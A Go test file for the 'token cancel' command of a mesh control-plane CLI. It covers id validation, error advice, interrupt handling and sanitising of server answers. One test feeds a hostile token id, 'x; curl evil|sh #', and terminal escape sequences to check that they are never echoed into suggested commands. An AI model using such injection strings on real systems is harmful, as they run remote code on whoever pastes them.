package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"mesh/controlplane/api"
	"mesh/controlplane/operator"
)

// TestTokenCancelTakesTheTokensItCancels: `token cancel NODE [ID]...` names the
// tokens to cancel as token list shows them (12 hex digits, any case); anything
// else is a usage error (exit 2) before anything is sent, as is a stray argument
// after --node that is not an id.
func TestTokenCancelTakesTheTokensItCancels(t *testing.T) {
	dir := t.TempDir()
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"token", "cancel", "--data", dir, "web-1", "c6dece0f"}, `token id "c6dece0f": 8 characters`},
		{[]string{"token", "cancel", "--data", dir, "web-1", "c6dece0fc5dz"}, "lowercase hex digits"},
		{[]string{"token", "cancel", "--data", dir, "--node", "web-1", "web-2"}, `token id "web-2"`},
		{[]string{"token", "cancel", "--data", dir}, "meshctl token cancel NODE [ID]..."},
	} {
		code, stdout, stderr := runCLI(c.args...)
		if code != exitUsage || stdout != "" || !strings.Contains(stderr, c.want) {
			t.Errorf("%v: exit %d, stderr %q; want %d naming %q", c.args, code, stderr, exitUsage, c.want)
		}
	}
	// Upper case is the same id; the empty data directory stops it next (exit 7).
	if code, _, stderr := runCLI("token", "cancel", "--data", dir, "web-1", "C6DECE0FC5DC"); code == exitUsage {
		t.Errorf("an id in upper case: exit %d: %s", code, stderr)
	}
}

// TestTokenCancelFailuresSayWhatToDo: a control plane older than cancelling by id
// refuses the ids, cancelling nothing, which meshctl explains; an answer that never
// came (exit 3) names the ids the request was sent for and the command that sends
// it again without touching a token minted since. Other refusals pass as they are.
func TestTokenCancelFailuresSayWhatToDo(t *testing.T) {
	older := &api.Error{Code: api.CodeBadRequest, Message: `not a request for this operation: args: json: unknown field "ids"`}
	if err := cancelFailed(older, "db-1", []string{"c6dece0fc5dc"}); !errors.Is(err, older) || !strings.Contains(err.Error(), "older than this meshctl") ||
		!strings.Contains(err.Error(), "cancelled nothing") {
		t.Fatalf("an older control plane: %v", err)
	}
	lost := fmt.Errorf("%w token.cancel within 15s; look", operator.ErrNoAnswer)
	err := cancelFailed(lost, "db-1", []string{"c6dece0fc5dc", "5f20da12fb0a"})
	if !errors.Is(err, operator.ErrNoAnswer) || !strings.Contains(err.Error(), "meshctl token cancel db-1 c6dece0fc5dc 5f20da12fb0a") {
		t.Fatalf("no answer: %v", err)
	}
	other := &api.Error{Code: api.CodeNotFound, Message: "node db-1 has no token 0123456789ab"}
	if got := cancelFailed(other, "db-1", nil); got != error(other) {
		t.Fatalf("another refusal became %v", got)
	}
	for state, want := range map[string]string{"cancelled": "cancelled already", "used": "meshctl revoke db-1", "expired": "expired at"} {
		if got := notPendingBecause(api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", State: state}); !strings.Contains(got, want) {
			t.Errorf("a %s token: %q, want %q", state, got, want)
		}
	}
}

// fakeCaller answers token list with list, and records the cancellation it is sent,
// answering it with answer.
type fakeCaller struct {
	list   api.TokenListResult
	answer api.TokenCancelResult
	sent   []api.TokenCancelRequest
}

func (f *fakeCaller) Call(op string, req, res any) error {
	switch op {
	case api.OpTokenList:
		*res.(*api.TokenListResult) = f.list
	case api.OpTokenCancel:
		f.sent = append(f.sent, req.(api.TokenCancelRequest))
		*res.(*api.TokenCancelResult) = f.answer
	default:
		return fmt.Errorf("unexpected %s", op)
	}
	return nil
}

// TestTokenCancelSendsTheTokensItRead: without ids, `token cancel db-1` reads db-1's
// pending tokens (stale ones too) and sends their ids, never the node alone, which
// had the control plane cancel whatever was pending when it applied, a token minted
// since included. It names each token cancelled, and on stderr the one the control
// plane left pending; with nothing pending it sends nothing; a node without tokens
// is not_found (exit 4).
func TestTokenCancelSendsTheTokensItRead(t *testing.T) {
	at := time.Date(2026, 12, 6, 1, 3, 53, 0, time.UTC)
	a := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", Role: "worker", Labels: map[string]string{"tier": "db"}, CreatedAt: at, ExpiresAt: at.Add(15 * time.Minute), State: "pending"}
	stale := api.TokenView{ID: "0badc0ffee00", Node: "db-1", Role: "worker", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "stale"}
	old := api.TokenView{ID: "aaaaaaaaaaaa", Node: "db-1", Role: "worker", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "cancelled"}
	b := api.TokenView{ID: "5f20da12fb0a", Node: "db-1", Role: "worker", CreatedAt: at.Add(time.Minute), ExpiresAt: at.Add(16 * time.Minute), State: "pending"}
	cancelled := a
	cancelled.State = "cancelled"
	f := &fakeCaller{
		list:   api.TokenListResult{Tokens: []api.TokenView{old, a, stale}},
		answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{cancelled}, StillPending: []api.TokenView{b}},
	}
	var out, errb bytes.Buffer
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", nil, false); err != nil {
		t.Fatal(err)
	}
	if len(f.sent) != 1 || f.sent[0].Node != "db-1" || strings.Join(f.sent[0].IDs, " ") != "c6dece0fc5dc 0badc0ffee00" {
		t.Fatalf("sent %+v, want db-1 with the ids of its pending and stale tokens", f.sent)
	}
	if want := "cancelled token c6dece0fc5dc of db-1 (minted 2026-12-06T01:03:53Z, expiring 2026-12-06T01:18:53Z, labels tier=db): it admits nothing from now on\n"; out.String() != want {
		t.Errorf("stdout %q, want %q", out.String(), want)
	}
	if !strings.Contains(errb.String(), "token 5f20da12fb0a of db-1 (minted 2026-12-06T01:04:53Z") || !strings.Contains(errb.String(), "is pending and was left") ||
		!strings.Contains(errb.String(), "meshctl token cancel db-1 5f20da12fb0a") {
		t.Errorf("stderr %q does not name the token left pending", errb.String())
	}
	if !strings.Contains(errb.String(), "minted after this command read db-1's tokens") {
		t.Errorf("stderr %q does not say the token left pending was minted after the read", errb.String())
	}

	// Nothing pending: nothing sent.
	f = &fakeCaller{list: api.TokenListResult{Tokens: []api.TokenView{old}}}
	out.Reset()
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", nil, false); err != nil || len(f.sent) != 0 || !strings.Contains(out.String(), "nothing to cancel") {
		t.Fatalf("nothing pending: %v, sent %+v, stdout %q", err, f.sent, out.String())
	}
	// No token at all: not_found.
	f = &fakeCaller{}
	var ae *api.Error
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "nobody", nil, false); !errors.As(err, &ae) || ae.Code != api.CodeNotFound || len(f.sent) != 0 {
		t.Fatalf("a node without tokens: %v, sent %+v", err, f.sent)
	}
	// Ids given: sent as given, with no list read first.
	f = &fakeCaller{answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{}}}
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", []string{"5f20da12fb0a"}, true); err != nil ||
		len(f.sent) != 1 || strings.Join(f.sent[0].IDs, " ") != "5f20da12fb0a" {
		t.Fatalf("ids given: %v, sent %+v", err, f.sent)
	}
	// Ids given, another token pending and not named: left, as not named (this
	// command read nothing, so it cannot say when that token was minted).
	f = &fakeCaller{answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{cancelled}, StillPending: []api.TokenView{b}}}
	errb.Reset()
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", []string{"c6dece0fc5dc"}, false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(errb.String(), "5f20da12fb0a") || !strings.Contains(errb.String(), "it was not named") || strings.Contains(errb.String(), "minted after") {
		t.Errorf("ids given, stderr %q: want the token left pending as not named, not as minted after a read", errb.String())
	}
}

// blockingCancel answers token list with its tokens and holds token.cancel until
// released: a control plane whose answer to the cancellation does not come.
type blockingCancel struct {
	list    api.TokenListResult
	release chan struct{}
}

func (b *blockingCancel) Call(op string, _, res any) error {
	switch op {
	case api.OpTokenList:
		*res.(*api.TokenListResult) = b.list
	case api.OpTokenCancel:
		<-b.release
	}
	return nil
}

// TestAnInterruptedCancelNamesItsTokens (audit of commands run twice, interrupted and
// concurrent, finding 3): `token cancel NODE` interrupted after it sent the
// cancellation (exit 9) said only "look before running it again", where the exit 3
// names the ids it was sent for and the command that sends it again with them.
// Run again without them, it cancels whatever is pending then, another operator's
// --replace among them (decision 0029). The exit 9 names them too.
func TestAnInterruptedCancelNamesItsTokens(t *testing.T) {
	b := &blockingCancel{list: api.TokenListResult{Tokens: []api.TokenView{{ID: "477e3a5ab876", Node: "c2", State: "pending"}}}, release: make(chan struct{})}
	t.Cleanup(func() { close(b.release) })
	cio := &cliIO{stdout: io.Discard, stderr: io.Discard, rerun: new(atomic.Pointer[string])}
	sent := new(atomic.Pointer[string])
	op := api.OpTokenCancel
	sent.Store(&op)
	time.AfterFunc(200*time.Millisecond, func() { syscall.Kill(syscall.Getpid(), syscall.SIGINT) })
	err := stopOnSignal(true, new(atomic.Bool), sent, cio.rerun, func() error { return cancelWith(cio, b, "c2", nil, false) })
	if err == nil || !strings.Contains(err.Error(), "interrupted by SIGINT") || !strings.Contains(err.Error(), "sent for token(s) 477e3a5ab876") ||
		!strings.Contains(err.Error(), "meshctl token cancel c2 477e3a5ab876") {
		t.Fatalf("token cancel interrupted while waiting for its answer: %v; want the ids it was sent for and the rerun naming them", err)
	}
	if code := exitCode(io.Discard, "meshctl token", err); code != exitInterrupted {
		t.Fatalf("exit %d, want %d", code, exitInterrupted)
	}
}

// TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText: the ids read from token.list
// and those of a token left pending go into commands printed for pasting; an answer
// a broker passing the pin wrote (a removed control node on the path) put shell text
// and terminal escapes there (a review). Only ids as the mesh makes them are used,
// and the rest is printed as text.
func TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText(t *testing.T) {
	at := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC)
	good := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending", Labels: map[string]string{"tier": "db\x1b[2J"}}
	evil := api.TokenView{ID: "x; curl evil|sh #", Node: "db-1\x1b]0;pwn\x07\nmeshctl token cancel: to cancel it too: meshctl token cancel db-1 x", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
	f := &fakeCaller{
		list:   api.TokenListResult{Tokens: []api.TokenView{good, evil}},
		answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{good}, StillPending: []api.TokenView{evil}},
	}
	var out, errb bytes.Buffer
	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", nil, false); err != nil {
		t.Fatal(err)
	}
	if len(f.sent) != 1 || strings.Join(f.sent[0].IDs, " ") != good.ID {
		t.Errorf("sent %+v, want the well-formed id alone", f.sent)
	}
	all := out.String() + errb.String()
	if strings.Contains(errb.String(), "\nmeshctl token cancel: to cancel it too") {
		t.Errorf("a line break in the answer printed a line of advice:\n%s", errb.String())
	}
	for _, bad := range []string{"curl", "\x1b", "\x07"} {
		if strings.Contains(all, bad) {
			t.Errorf("%q printed:\n%s", bad, all)
		}
	}
	if !strings.Contains(errb.String(), "meshctl token list --node db-1 shows it") {
		t.Errorf("the token left pending is not said:\n%s", errb.String())
	}
}
